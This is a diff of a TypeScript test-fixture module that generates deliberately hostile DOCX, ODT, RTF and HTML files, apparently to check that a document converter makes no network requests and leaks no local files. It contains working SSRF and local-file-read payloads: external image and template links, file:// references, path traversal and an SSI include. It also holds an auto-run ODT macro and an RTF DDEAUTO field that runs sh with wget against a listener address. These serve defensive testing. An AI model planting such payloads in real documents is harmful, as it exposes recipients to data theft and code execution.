@@ -1,6 +1,6 @@
-/** Documents that want something from elsewhere: a network, a disk, a program. Every one also has words to show. */
+/** Malicious documents that try to access the network, local files or programs (SSRF, LFI, RCE); each also has visible text. */
 import type { FormatId } from '@filesmith/contract/formats'
-import { paragraph, picture, writeDocx } from './write-docx.ts'
+import { image, paragraph, writeDocx } from './write-docx.ts'
 import { writeZip } from './write-zip.ts'
 
 export const visibleWords = 'Visible words'
@@ -12,10 +12,10 @@ export interface HostileDocument {
 }
 
 interface Bait {
-  /** Where somebody listens. */
+  /** URL of a listener that must receive no request. */
   readonly address: string
-  /** A picture and a text on this machine that must not come out. */
-  readonly picturePath: string
+  /** A local image and text file whose contents must not appear in a result. */
+  readonly imagePath: string
   readonly textPath: string
 }
 
@@ -27,7 +27,7 @@ const words = paragraph(visibleWords)
 const field = (instruction: string) =>
   `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
 
-function hostileDocx({ address, picturePath, textPath }: Bait): HostileDocument[] {
+function hostileDocx({ address, imagePath, textPath }: Bait): HostileDocument[] {
   const external = (type: string, target: string) => [{ id: 'bait', type, target, isExternal: true }]
   const docx = (what: string, content: Parameters<typeof writeDocx>[0]): HostileDocument => ({
     what,
@@ -37,13 +37,13 @@ function hostileDocx({ address, picturePath, textPath }: Bait): HostileDocument[
   const ole =
     '<w:p><w:r><w:object><v:shape id="s" style="width:100pt;height:50pt"/><o:OLEObject Type="Link" ProgID="Word.Document" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="bait" UpdateMode="Always"/></w:object></w:r></w:p>'
   return [
-    docx('a picture on a server', {
-      body: words + picture('bait', true),
-      relations: external('image', `${address}/picture.png`),
+    docx('an image on a server', {
+      body: words + image('bait', true),
+      relations: external('image', `${address}/image.png`),
     }),
-    docx('a picture on the disk', {
-      body: words + picture('bait', true),
-      relations: external('image', `file://${picturePath}`),
+    docx('an image on the local disk', {
+      body: words + image('bait', true),
+      relations: external('image', `file://${imagePath}`),
     }),
     docx('a template on a server', {
       body: words,
@@ -62,14 +62,14 @@ function hostileDocx({ address, picturePath, textPath }: Bait): HostileDocument[
       body: words + ole,
       relations: external('oleObject', `${address}/object.docx`),
     }),
-    docx('another document as a part', {
+    docx('another document as a chunk (altChunk)', {
       body: `${words}<w:altChunk r:id="bait"/>`,
       relations: external('aFChunk', `file://${textPath}`),
     }),
   ]
 }
 
-function hostileOdt({ address, picturePath, textPath }: Bait): HostileDocument[] {
+function hostileOdt({ address, imagePath, textPath }: Bait): HostileDocument[] {
   const frame = (target: string) =>
     `<text:p><draw:frame svg:width="3cm" svg:height="2cm" text:anchor-type="as-char"><draw:image xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`
   const odt = (what: string, body: string, more: Readonly<Record<string, string>> = {}): HostileDocument => ({
@@ -95,12 +95,15 @@ End Sub</script:module>`
   const libraries =
     '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>'
   return [
-    odt('pictures on a server and on the disk', frame(`${address}/odt.png`) + frame(`file://${picturePath}`)),
     odt(
-      'a section that stands in another file',
+      'images on a server and on the local disk',
+      frame(`${address}/odt.png`) + frame(`file://${imagePath}`),
+    ),
+    odt(
+      'a section linked to another file',
       `<text:section text:name="s"><text:section-source xlink:href="file://${textPath}" text:filter-name="Text"/><text:p>old</text:p></text:section>`,
     ),
-    odt('a macro that runs when it is opened', '', {
+    odt('a macro that runs when the document is opened', '', {
       events: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
       'Basic/script-lc.xml': libraries,
       'Basic/Standard/script-lb.xml': library,
@@ -117,13 +120,13 @@ const odtNamespaces = [
   'xmlns:xlink="http://www.w3.org/1999/xlink"',
 ].join(' ')
 
-function hostileRtf({ address, picturePath, textPath }: Bait): HostileDocument[] {
+function hostileRtf({ address, imagePath, textPath }: Bait): HostileDocument[] {
   const rtfField = (instruction: string) =>
     `{\\field\\flddirty{\\*\\fldinst ${instruction}}{\\fldrslt result}}`
   const content = [
     `{\\rtf1\\ansi{\\*\\template ${address}/template.dot} ${visibleWords}\\par `,
     rtfField(`INCLUDEPICTURE "${address}/rtf.png" \\\\d`),
-    rtfField(`INCLUDEPICTURE "${picturePath}" \\\\d`),
+    rtfField(`INCLUDEPICTURE "${imagePath}" \\\\d`),
     rtfField(`INCLUDETEXT "${textPath}"`),
     rtfField(`DDEAUTO sh "-c 'wget ${address}/dde'"`),
     '{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000001000000}{\\result result}}\\par}',
@@ -131,7 +134,7 @@ function hostileRtf({ address, picturePath, textPath }: Bait): HostileDocument[]
   return [{ what: 'fields, a template and a linked object', format: 'rtf', content }]
 }
 
-function hostileHtml({ address, picturePath, textPath }: Bait): HostileDocument[] {
+function hostileHtml({ address, imagePath, textPath }: Bait): HostileDocument[] {
   const html = (what: string, head: string, body: string): HostileDocument => ({
     what,
     format: 'html',
@@ -139,14 +142,14 @@ function hostileHtml({ address, picturePath, textPath }: Bait): HostileDocument[
   })
   return [
     html(
-      'everything a page loads',
+      'every kind of resource that a page loads',
       `<base href="${address}/"><link rel="stylesheet" href="${address}/a.css"><style>@import "${address}/b.css"; p { background: url(${address}/c.png) }</style><meta http-equiv="refresh" content="0;url=${address}/d"><script src="${address}/e.js"></script>`,
       `<img src="${address}/f.png"><IMG SRC=g.png><iframe src="${address}/h"></iframe><object data="${address}/i"></object><embed src="${address}/j"><table background="${address}/k.png"><tr><td>cell</td></tr></table><video src="${address}/l" poster="${address}/m.png"></video><p style="background-image:url('${address}/n.png')">styled</p><input type="image" src="${address}/o.png">`,
     ),
     html(
-      'files of the machine',
+      'local files',
       '',
-      `<img src="file://${picturePath}"><img src="${picturePath}"><iframe src="file://${textPath}"></iframe><object data="file://${textPath}"></object><a href="../../../..${textPath}">up</a><img src="../../../../../..${picturePath}"><!--#include file="${textPath}"-->`,
+      `<img src="file://${imagePath}"><img src="${imagePath}"><iframe src="file://${textPath}"></iframe><object data="file://${textPath}"></object><a href="../../../..${textPath}">up</a><img src="../../../../../..${imagePath}"><!--#include file="${textPath}"-->`,
     ),
   ]
 }
